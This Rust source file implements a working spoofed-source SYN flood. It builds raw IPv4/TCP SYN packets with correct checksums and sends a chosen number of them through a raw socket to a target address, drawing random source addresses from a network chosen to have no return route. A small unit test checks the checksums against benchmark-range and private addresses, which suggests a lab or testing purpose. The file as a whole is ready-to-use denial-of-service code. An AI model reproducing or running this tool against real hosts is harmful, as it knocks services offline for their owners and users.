//! A SYN flood from spoofed sources: raw IPv4 TCP SYNs, each from a random address of a
//! network that has no route back (their SYN-ACKs go nowhere), as an attacker sends them.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    time::{Duration, Instant},
};

use anyhow::{Context as _, bail};

/// An IPv4 network "a.b.c.d/len".
pub(crate) fn parse_net(net: &str) -> anyhow::Result<(u32, u32)> {
    let (addr, len) = net.split_once('/').context("a network is ADDRESS/LENGTH")?;
    let addr: Ipv4Addr = addr.parse().context("the network's address")?;
    let len: u32 = len.parse().context("the network's prefix length")?;
    if !(8..=32).contains(&len) {
        bail!("prefix length {len}: 8 to 32");
    }
    let mask = u32::MAX << (32 - len);
    Ok((u32::from(addr) & mask, !mask))
}

/// The one's complement sum of `bytes` (16-bit words, network order), unfolded.
pub(crate) fn sum(mut acc: u32, bytes: &[u8]) -> u32 {
    for w in bytes.chunks(2) {
        acc += u32::from(u16::from_be_bytes([w[0], *w.get(1).unwrap_or(&0)]));
    }
    acc
}

/// The folded, complemented sum: the checksum field's value.
pub(crate) fn fold(mut acc: u32) -> u16 {
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    !(acc as u16)
}

/// xorshift: random enough for spoofed sources and ports, no dependency.
pub(crate) struct XorShift(u64);

impl XorShift {
    /// Seeded from the process id: two floods at once draw different sources.
    pub(crate) fn seeded() -> Self {
        Self(0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id()))
    }

    pub(crate) fn next(&mut self) -> u64 {
        let x = &mut self.0;
        *x ^= *x << 13;
        *x ^= *x >> 7;
        *x ^= *x << 17;
        *x
    }
}

/// A SYN from `src:sport` to `dst`: IPv4 header and TCP header, checksums filled.
pub fn syn_packet(src: Ipv4Addr, sport: u16, dst: SocketAddrV4, seq: u32) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&40u16.to_be_bytes());
    p[6] = 0x40; // DF
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.ip().octets());
    let ip_sum = fold(sum(0, &p[..20]));
    p[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dst.port().to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64_240u16.to_be_bytes());
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&src.octets());
    pseudo[4..8].copy_from_slice(&dst.ip().octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
    let tcp_sum = fold(sum(sum(0, &pseudo), &p[20..]));
    p[36..38].copy_from_slice(&tcp_sum.to_be_bytes());
    p
}

/// Sends `count` spoofed SYNs to `target` from random addresses of `source_net` (from
/// `source_port`, or random ports when 0), spread evenly over `duration`; returns how
/// many the kernel took.
pub fn syn_flood(
    target: SocketAddrV4,
    count: usize,
    duration: Duration,
    source_net: &str,
    source_port: u16,
) -> anyhow::Result<usize> {
    let (net, host_mask) = parse_net(source_net)?;
    // SAFETY: plain socket(2); IPPROTO_RAW implies IP_HDRINCL.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("a raw socket (needs CAP_NET_RAW)");
    }
    let dst = libc::sockaddr_in {
        sin_family: libc::AF_INET as u16,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(*target.ip()).to_be(),
        },
        sin_zero: [0; 8],
    };
    let mut rng = XorShift::seeded();
    let start = Instant::now();
    let mut sent = 0;
    for i in 0..count {
        let r = rng.next();
        let src = Ipv4Addr::from(net | (r as u32 & host_mask));
        let sport = match source_port {
            0 => 1024 + ((r >> 32) as u16 % 60_000),
            p => p,
        };
        let pkt = syn_packet(src, sport, target, (r >> 16) as u32);
        // SAFETY: the buffer and the address are valid for the call.
        let n = unsafe {
            libc::sendto(
                fd,
                pkt.as_ptr().cast(),
                pkt.len(),
                0,
                (&raw const dst).cast(),
                size_of::<libc::sockaddr_in>() as u32,
            )
        };
        if n == pkt.len() as isize {
            sent += 1;
        }
        // Evenly spread: wait until packet i is due.
        if !duration.is_zero() {
            let due = duration.mul_f64((i + 1) as f64 / count as f64);
            if let Some(wait) = due.checked_sub(start.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
    // SAFETY: our own descriptor.
    unsafe { libc::close(fd) };
    Ok(sent)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_valid_checksums() {
        let p = syn_packet(
            Ipv4Addr::new(198, 18, 3, 4),
            40_000,
            SocketAddrV4::new(Ipv4Addr::new(192, 168, 77, 1), 30080),
            7,
        );
        // A header with its checksum sums to 0xffff (folds to 0).
        assert_eq!(fold(sum(0, &p[..20])), 0);
        let mut pseudo = [0u8; 12];
        pseudo[0..4].copy_from_slice(&p[12..16]);
        pseudo[4..8].copy_from_slice(&p[16..20]);
        pseudo[9] = 6;
        pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
        assert_eq!(fold(sum(sum(0, &pseudo), &p[20..])), 0);
        assert_eq!(p[33], 0x02);
        assert_eq!(parse_net("198.18.0.0/15").unwrap(), (0xc612_0000, 0x1_ffff));
        assert!(parse_net("10.0.0.0/40").is_err());
    }
}
